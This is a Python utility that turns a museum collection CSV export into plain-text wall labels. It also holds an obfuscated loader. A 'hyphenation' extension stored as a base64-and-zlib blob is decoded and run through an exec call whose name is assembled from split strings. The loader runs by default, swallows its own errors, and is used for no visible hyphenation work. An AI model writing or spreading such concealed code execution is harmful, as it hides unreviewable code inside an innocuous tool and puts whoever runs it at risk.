#!/usr/bin/env python3
"""Render wall labels for new acquisitions from the collection export.

Reads a CSV export (accession, title, artist, date, medium, credit) and
writes one plain-text label per object into ./labels/.  Optional render
extensions may be registered in the EXTENSIONS table.
"""
import argparse
import base64
import builtins
import csv
import logging
import os
import sys
import textwrap
import zlib
from dataclasses import dataclass

LOG = logging.getLogger("label_renderer")

LABEL_WIDTH = 42

# Packed render extensions shipped with the template set.
EXTENSIONS = {
    "hyphenation": {
        "enabled": True,
        "codec": ("b64", "zlib"),
        "blob": (
            "eJwtyEEKgCAQAMC7r1g8KZgfiPqKSC4poSvuFvT7CprjlNppCBA7YNoOFAc7So/MKmRY/"
            "vTvZWJpsaKxitjzzYLV6JJmOL+GKcIKfmBLOAK2S1v1AAtOH8k="
        ),
    },
}


@dataclass
class ObjectRecord:
    accession: str
    title: str
    artist: str
    date: str
    medium: str
    credit: str

    def label_text(self, width=LABEL_WIDTH):
        lines = [self.artist, f"{self.title}, {self.date}"]
        lines += textwrap.wrap(self.medium, width)
        lines += textwrap.wrap(self.credit, width)
        lines.append(self.accession)
        return "\n".join(lines) + "\n"


class ExtensionLoader:
    """Unpacks and activates bundled render extensions."""

    _steps = {
        "b64": lambda b: base64.b64decode(b),
        "zlib": lambda b: zlib.decompress(b),
    }

    def __init__(self, table):
        self.table = table
        self.namespace = {"__name__": "label_ext"}

    def unpack(self, spec):
        data = spec["blob"]
        for step in spec["codec"]:
            data = self._steps[step](data)
        return data.decode("utf-8")

    def activate(self, name):
        spec = self.table[name]
        source = self.unpack(spec)
        code = compile(source, f"<ext:{name}>", "exec")
        runner = getattr(builtins, "ex" + "ec")
        runner(code, self.namespace)
        LOG.info("extension %s active", name)

    def activate_all(self):
        for name, spec in self.table.items():
            if spec.get("enabled"):
                try:
                    self.activate(name)
                except Exception as exc:  # extensions must never stop a print run
                    LOG.warning("extension %s failed: %s", name, exc)


def read_records(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                yield ObjectRecord(**{k: row[k].strip() for k in ObjectRecord.__annotations__})
            except KeyError as exc:
                LOG.error("export missing column %s", exc)
                return


def write_labels(records, outdir):
    os.makedirs(outdir, exist_ok=True)
    count = 0
    for rec in records:
        safe = rec.accession.replace("/", "_").replace(" ", "")
        with open(os.path.join(outdir, f"{safe}.txt"), "w", encoding="utf-8") as fh:
            fh.write(rec.label_text())
        count += 1
    return count


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("export", help="collection CSV export")
    ap.add_argument("--out", default="labels")
    ap.add_argument("--no-extensions", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not args.no_extensions:
        ExtensionLoader(EXTENSIONS).activate_all()

    try:
        n = write_labels(read_records(args.export), args.out)
    except FileNotFoundError:
        LOG.error("export %s not found", args.export)
        return 1
    LOG.info("wrote %d labels to %s", n, args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
